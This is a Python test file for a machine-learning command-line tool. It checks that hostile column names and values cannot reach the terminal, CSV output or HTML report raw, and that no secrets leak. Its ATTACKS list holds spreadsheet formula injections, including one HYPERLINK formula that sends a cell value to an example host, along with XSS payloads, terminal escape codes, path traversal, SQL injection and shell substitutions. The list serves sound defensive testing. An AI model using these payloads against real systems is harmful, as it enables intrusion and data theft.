"""Two hundred hostile names and values go through one run: nothing they hold reaches a terminal, a page or a sheet raw.

Nor does anything of the environment: no run file holds a secret variable or the path of the home directory.
"""

from __future__ import annotations

import csv
import html.parser
import os
import subprocess
import sys
import unicodedata

import numpy as np
import pandas as pd
import pytest

from cashmere.cli.output_files import without_formulas

pytestmark = pytest.mark.long

SECRET = "token-7f3a91c0-do-not-write"
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</style></svg><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% raw %}",
    "[/b]",
    "[bold red]x[/bold red]",
    ":boom:",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b2J",
    "\x1b]8;;http://x.example\x07click\x1b]8;;\x07",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200b",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "a/b",
    "a\nTraceback (most recent call last):",
    "a\r\nSet-Cookie: x",
    "\x00",
    "\x07\x08\x7f",
    "%s%n%x",
    "'; DROP TABLE trials; --",
    "${HOME}",
    "$(id)",
    "`id`",
    "\ufeffx",
    "\ud7ff\ufffe",
    "é\u0301" * 50,
    "x" * 10_000,
    "NaN",
]
NAMES = [f"{attack}{suffix}" for suffix in ("", " 1", "]]>", '"', "'") for attack in ATTACKS]
LABELS = ATTACKS[:20]
ROWS = 10 * len(LABELS)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """A run in a home directory of its own on a table whose names and values are all hostile; what was printed."""
    home = tmp_path_factory.mktemp("home-of-somebody")
    rng = np.random.default_rng(0)
    content = {name: rng.normal(size=ROWS) for name in NAMES[::2]}
    content |= {name: rng.choice(ATTACKS[:10], ROWS) for name in NAMES[1::2]}
    content["[/b]\x1b[31m=target"] = np.repeat(LABELS, ROWS // len(LABELS))
    pd.DataFrame(content).to_parquet(home / "table.parquet")
    environment = {**os.environ, "HOME": str(home), "CASHMERE_TEST_SECRET": SECRET, "PYTHONIOENCODING": "ascii"}

    def command(*arguments):
        line = [sys.executable, "-m", "cashmere", *arguments]
        return subprocess.run(line, cwd=home, env=environment, capture_output=True, timeout=250)

    quickly = ["--budget", "1trials", "--workers", "1", "--include", "logistic_regression", "--resampling", "holdout"]
    results = [
        command("fit", "table.parquet", "--target", "[/b]\x1b[31m=target", *quickly, "--out", "run"),
        command("leaderboard", "run"),
        command("predict", "run", "table.parquet", "-o", "predicted.csv", "--proba"),
        command("predict", "run", "table.parquet", "-o", "kept.csv", "--keep-formulas"),
        command("fit", "table.parquet", "--target", "nothing", "--out", "none"),
        command("report", "run"),
    ]
    assert [each.returncode for each in results] == [0, 0, 0, 0, 2, 0], results
    return home, results


def test_there_are_two_hundred_names():
    assert len(set(NAMES)) == 200


def test_terminal_sees_no_control_character(run):
    printed = b"".join(each.stdout + each.stderr for each in run[1]).decode()
    assert not any(line.startswith("Traceback") for line in printed.splitlines())
    raw = {c for c in printed if unicodedata.category(c) in ("Cc", "Cf") and c != "\n"}
    assert not raw
    assert "[/b]" in printed  # shown as it is, not read as markup


def test_cells_of_predictions_are_no_formulas(run):
    home, results = run
    with (home / "predicted.csv").open(newline="") as file:
        cells = [cell for record in csv.reader(file) for cell in record]
    assert len(cells) == (ROWS + 1) * (1 + len(LABELS))
    assert without_formulas(pd.DataFrame({"cell": cells}))[1] == 0
    assert any(cell.startswith("'=cmd") for cell in cells)
    assert b"--keep-formulas" in results[2].stdout and b"--keep-formulas" not in results[3].stdout
    assert set(pd.read_csv(home / "kept.csv")["prediction"]) <= set(LABELS)


class _Active(html.parser.HTMLParser):
    """Collects what a page could run."""

    def __init__(self):
        super().__init__()
        self.found = []
        self.tags = set()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append((tag, name, value))


def test_report_has_no_content_of_strangers_that_runs(run):
    page = (run[0] / "run" / "report.html").read_text(encoding="utf-8")
    parser = _Active()
    parser.feed(page)
    assert not parser.found and not parser.tags & {"img", "iframe", "object", "embed", "form"}
    assert page.count("<link") == page.count('<link rel="icon" href="data:,">')
    assert "<script>alert" not in page and "Content-Security-Policy" in page
    assert not {c for c in page if unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t"}


def test_run_files_hold_neither_secrets_nor_the_home_directory(run):
    home = run[0]
    files = [path for path in (home / "run").rglob("*") if path.is_file()]
    assert len(files) > 10
    for path in files:
        content = path.read_bytes()
        assert SECRET.encode() not in content, path
        assert str(home).encode() not in content, path


def test_reader_that_goes_away_ends_a_command_quietly(run):
    for command in (["leaderboard", "run"], ["strategies"]):
        with subprocess.Popen(
            [sys.executable, "-m", "cashmere", *command],
            cwd=run[0],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        ) as process:
            process.stdout.close()
            assert process.stderr.read() == b""
